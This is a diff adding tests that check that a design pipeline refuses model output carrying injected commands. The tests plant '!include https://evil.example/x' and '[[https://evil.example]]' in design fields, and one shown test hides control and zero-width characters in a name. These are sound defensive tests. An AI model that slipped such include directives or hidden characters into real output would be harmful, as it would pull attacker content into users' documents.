@@ -142,6 +142,36 @@ describe("a model that obeys such a text", () => {
     expect(error.message).toContain("'entities': ");
   });
 
+  it.each([
+    ["a decision", "No requirement asks for parts that change apart", "architecture"],
+    ["a reason", "The web app runs in it", "architecture"],
+    ["a message", "kept for somebody else", "details, part 1 of 1"],
+  ])("cannot put a command into %s", async (_, words, step) => {
+    const { url } = await serveObeying((text) => text.replaceAll(words, "!include https://evil.example/x"));
+
+    const error = await refusedRun(url);
+
+    expect(error.message).toContain(`'${step}': '!include https://evil.example/x`);
+  });
+
+  it("cannot repair a design into something else than a design", async () => {
+    const patches = [
+      {
+        action: "rename",
+        element: "component web_app",
+        text: "[[https://evil.example]]",
+        sources: null,
+        component: null,
+        reason: "Asked for.",
+      },
+    ];
+    const { url } = await serveObeying((text, { keys }) =>
+      keys.includes("patches") ? JSON.stringify({ patches }) : text,
+    );
+
+    expect((await refusedRun(url)).message).toContain("'review': '[[https://evil.example]]' holds a command");
+  });
+
   it("cannot hide anything in what nobody sees", async () => {
     const { url } = await serveObeying((text) =>
       text.replaceAll('"Loan"', String.raw`"Lo\u0000a\u202En\u200B\n"`),
